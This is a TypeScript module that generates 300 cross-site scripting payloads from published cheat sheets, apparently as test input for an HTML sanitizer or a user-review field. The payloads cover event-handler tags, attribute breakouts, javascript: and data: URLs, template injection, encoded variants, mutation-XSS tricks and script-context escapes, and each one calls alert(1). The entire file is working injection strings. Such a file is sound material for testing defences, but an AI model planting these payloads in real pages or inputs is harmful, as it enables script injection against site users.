/*
 * Texts that would run as script wherever a page took them for more than text: 300 of them, made from the families of the OWASP XSS
 * Filter Evasion Cheat Sheet (tags, attributes, encodings), PortSwigger's XSS cheat sheet (events, protocols, templates), html5sec.org
 * (old and odd elements) and the published work on mutation XSS by Heiderich and others (mXSS). Each calls `alert`.
 */

const RUN = 'alert(1)';

const EVENTS = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a autofocus tabindex=1', 'onfocus'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x dur=1s', 'onbegin'],
  ['xss style="animation:x" ', 'onanimationstart'],
  ['iframe src=/', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div contenteditable autofocus', 'onfocus'],
] as const;

const tags = (): string[] =>
  EVENTS.flatMap(([tag, event]) => [
    `<${tag} ${event}=${RUN}>`,
    `<${tag.toUpperCase()}/${event}="${RUN}"//`,
    `<${tag}\t${event}\n=\n'${RUN}'>`,
  ]);

const BREAKS = ['"', "'", '`', '">', "'>", '" ', "' ", '"/>', '-->', '*/', '</title>', '</textarea>', '</style>'];

const attributes = (): string[] => [
  ...BREAKS.flatMap((breaks) => [
    `${breaks}<img src=x onerror=${RUN}>`,
    `${breaks} onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
    `${breaks}<svg/onload=${RUN}>`,
  ]),
  `x" style="background:url(javascript:${RUN})"`,
  `x' style='width:expression(${RUN})'`,
  `" srcdoc="<script>${RUN}</script>`,
  `" formaction="javascript:${RUN}`,
  `" xlink:href="javascript:${RUN}`,
  `" accesskey="x" onclick="${RUN}`,
];

const PROTOCOLS = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript&#58;',
  'javascript://shop%0a',
  'vbscript:',
];

const addresses = (): string[] => [
  ...PROTOCOLS.flatMap((protocol) => [
    `${protocol}${RUN}`,
    `<a href="${protocol}${RUN}">x</a>`,
    `<iframe src="${protocol}${RUN}">`,
    `[x](${protocol}${RUN})`,
  ]),
  `data:text/html,<script>${RUN}</script>`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<form action=javascript:${RUN}><button>x`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x`,
];

const REACH = `constructor.constructor('${RUN}')()`;
const templates = (): string[] => [
  `{{${REACH}}}`,
  `{{$on.${REACH}}}`,
  `{{'a'.${REACH}}}`,
  `[[${REACH}]]`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% ${RUN} %}`,
  `@{${RUN}}`,
  `{${RUN}}`,
  `{name, select, other {<img src=x onerror=${RUN}>}}`,
  `{count, plural, other {${RUN}}}`,
  `<b>{name}</b><img src=x onerror=${RUN}>`,
  `\`\${${RUN}}\``,
  `<div ng-app>{{${REACH}}}</div>`,
  `<div v-html="'<img src=x onerror=${RUN}>'">`,
  `<div x-data x-init="${RUN}">`,
  `<img src=x hx-on:error="${RUN}">`,
  `__proto__[innerHTML]=<img src=x onerror=${RUN}>`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
];

const wide = (text: string): string =>
  text.replace(/[!-~]/g, (sign) => String.fromCodePoint((sign.codePointAt(0) ?? 0) + 0xfee0));
const each = (text: string, sign: (code: number) => string): string =>
  Array.from(text, (letter) => sign(letter.codePointAt(0) ?? 0)).join('');

const ENCODED = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `"onfocus=${RUN} autofocus "`,
];
const encodings = (): string[] => [
  ...ENCODED.flatMap((text) => [
    each(text, (code) => `&#${code};`),
    each(text, (code) => `&#x${code.toString(16)};`),
    each(text, (code) => `&#${String(code).padStart(7, '0')}`),
    each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
    each(text, (code) => `\\x${code.toString(16).padStart(2, '0')}`),
    each(text, (code) => `%${code.toString(16).padStart(2, '0')}`),
    each(text, (code) => `%25${code.toString(16).padStart(2, '0')}`),
    text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    text.replaceAll('<', '%C0%BC').replaceAll('>', '%C0%BE'),
    text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    wide(text),
  ]),
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror=\\u0061lert(1)>`,
  `<svg><script>&#97;lert(1)</script>`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
  `<im\u00adg src=x onerror=${RUN}>`,
  `<script>eval(atob('YWxlcnQoMSk='))</script>`,
];

const HIDDEN = `<img src=x onerror=${RUN}>`;
const mutations = (): string[] => [
  `<noscript><p title="</noscript>${HIDDEN}">`,
  `<svg></p><style><a id="</style>${HIDDEN}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${HIDDEN}">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math>${HIDDEN}`,
  `<svg><style><img src="</style>${HIDDEN}">`,
  `<svg><foreignObject><iframe onload=${RUN}>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<table><td background="javascript:${RUN}">`,
  `<p style="font-family:'foo&#x27;;x:expression(${RUN});a'">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp>${HIDDEN}</xmp>`,
  `<template>${HIDDEN}</template>`,
  `<template shadowrootmode=open>${HIDDEN}</template>`,
  `<textarea><img title="</textarea>${HIDDEN}">`,
  `<select><style></select>${HIDDEN}</style>`,
  `<option><style></option></select>${HIDDEN}</style>`,
  `<iframe><img title="</iframe>${HIDDEN}">`,
  `<noembed><img title="</noembed>${HIDDEN}">`,
  `<plaintext>${HIDDEN}`,
  `<a id=x><a id=x name=y href="javascript:${RUN}">`,
  `<form id=test><input name=parentNode></form>${HIDDEN}`,
  `<annotation-xml encoding="text/html">${HIDDEN}`,
  `<d3v><!--<img src="--><img src=x onerror=${RUN}//">`,
  `<title><img title="</title>${HIDDEN}">`,
];

const SCRIPT = `<script>${RUN}</script>`;
const breakers = (): string[] => [
  `</script>${SCRIPT}`,
  `</ScRiPt >${SCRIPT}`,
  `</script/x>${SCRIPT}`,
  `<!--<script>${SCRIPT}-->`,
  `<!--</script>${SCRIPT}`,
  `]]>${SCRIPT}`,
  `"}</script>${SCRIPT}`,
  `"}]}</script>${SCRIPT}`,
  `","x":"</script>${SCRIPT}`,
  `\\"};${RUN}//`,
  `\\';${RUN}//`,
  `';${RUN};'`,
  `";${RUN};"`,
  `"-${RUN}-"`,
  `'-${RUN}-'`,
  `"+${RUN}+"`,
  `\u2028${RUN}\u2029`,
  `*/${RUN}/*`,
  `//\n${RUN}`,
  `-->\n${RUN}//`,
  `\\u003c/script\\u003e${SCRIPT}`,
  `&lt;/script&gt;${SCRIPT}`,
  `<\\/script>${SCRIPT}`,
  `self.__next_f.push([1,"</script>${SCRIPT}"])`,
  `$L1</script>${SCRIPT}`,
  `@context":"</script>${SCRIPT}`,
];

const FAMILIES = [tags, attributes, addresses, templates, encodings, mutations, breakers];

/** Every payload of every family, one of each in turn, so that any stretch of them has something of all. */
function inTurn(families: readonly string[][]): string[] {
  const longest = Math.max(...families.map((family) => family.length));
  return Array.from({ length: longest }, (_, index) =>
    families.flatMap((family) => family.slice(index, index + 1)),
  ).flat();
}

export const WANTED = 300;
/** Two ways of writing some of them, so that there are as many as wanted: in the midst of words, and twice. */
const more = (payloads: readonly string[]): string[] =>
  payloads.flatMap((payload) => [`맛있어요 ${payload} 또 살게요`, `${payload}${payload}`]);

const made = [...new Set(inTurn(FAMILIES.map((family) => family())))];
export const PAYLOADS: readonly string[] = [...made, ...more(made)].slice(0, WANTED);
